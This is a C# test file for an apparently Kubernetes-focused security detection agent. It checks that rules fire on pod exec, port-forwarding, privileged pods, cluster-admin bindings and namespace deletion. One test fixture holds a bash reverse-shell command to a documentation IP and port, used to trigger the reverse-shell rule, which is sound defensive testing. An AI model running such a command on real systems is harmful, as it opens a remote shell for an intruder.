using System.Text.Json.Nodes;
using ClusterTrail.Contract.Detections;
using ClusterTrail.Rules.Detections;
using ClusterTrail.Rules.Events;

namespace ClusterTrail.Agent.Tests.Sources.Admission;

/// <summary>The packs that come with the agent say of a review what they say of the audit event of its request.</summary>
public sealed class AdmissionRulesTests
{
    static readonly DetectionSet Rules = new(new DetectionsFile { Packs = ["baseline", "falco-parity", "activity"] }.Effective());

    [Fact]
    public void AShellInAPod() => Assert.Superset(
        new HashSet<string> { "pod-exec", "exec-reverse-shell", "falco-attach-or-exec-pod" }, Fired(Reviews.For(
            "", "v1", "pods", "exec", ("operation", "\"CONNECT\""), ("options", null),
            ("object", """{"kind":"PodExecOptions","apiVersion":"v1","container":"web","command":["bash","-c","bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]}"""))));

    [Fact]
    public void ATunnelToAPod() => Assert.Contains("pod-port-forward", Fired(Reviews.For(
        "", "v1", "pods", "portforward", ("operation", "\"CONNECT\""), ("object", """{"kind":"PodPortForwardOptions","apiVersion":"v1","ports":[80]}"""))));

    [Fact]
    public void AKubeletReachedThroughTheApiServer() => Assert.Contains("node-proxy", Fired(Reviews.For(
        "", "v1", "nodes", "proxy", ("operation", "\"CONNECT\""), ("namespace", null),
        ("object", """{"kind":"NodeProxyOptions","apiVersion":"v1","path":"/run/shop/web/c"}"""))));

    [Fact]
    public void APrivilegedPod() => Assert.Superset(
        new HashSet<string> { "privileged-container", "falco-create-privileged-pod", "activity-pod-created" }, Fired(Reviews.Request(
            ("object", """{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web"},"spec":{"containers":[{"name":"c","image":"i","securityContext":{"privileged":true}}]}}"""))));

    [Fact]
    public void ABindingToClusterAdmin() => Assert.Superset(
        new HashSet<string> { "cluster-admin-granted", "falco-attach-to-cluster-admin-role" }, Fired(Reviews.For(
            "rbac.authorization.k8s.io", "v1", "clusterrolebindings", null, ("namespace", null),
            ("object", """
                {"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"web"},
                "subjects":[{"kind":"User","name":"eve","apiGroup":"rbac.authorization.k8s.io"}],
                "roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}
                """))));

    [Fact]
    public void ANamespaceDeleted() => Assert.Contains("namespace-deleted", Fired(Reviews.For(
        "", "v1", "namespaces", null, ("operation", "\"DELETE\""), ("object", "null"), ("options", """{"kind":"DeleteOptions"}"""))));

    [Fact]
    public void AnOrdinaryPodIsNone() => Assert.DoesNotContain("privileged-container", Fired(Reviews.Request()));

    static HashSet<string> Fired(JsonObject request)
    {
        var (detector, index) = (new Detector(Rules), new JsonIndex());
        Assert.True(AuditEvent.TryParse(Reviews.Line(Reviews.Review(request)), index, out var audit, out var reason), reason);
        detector.Detect(audit, default);
        return [.. detector.Findings.Select(finding => Rules[finding.Rule].Rule.Name)];
    }
}
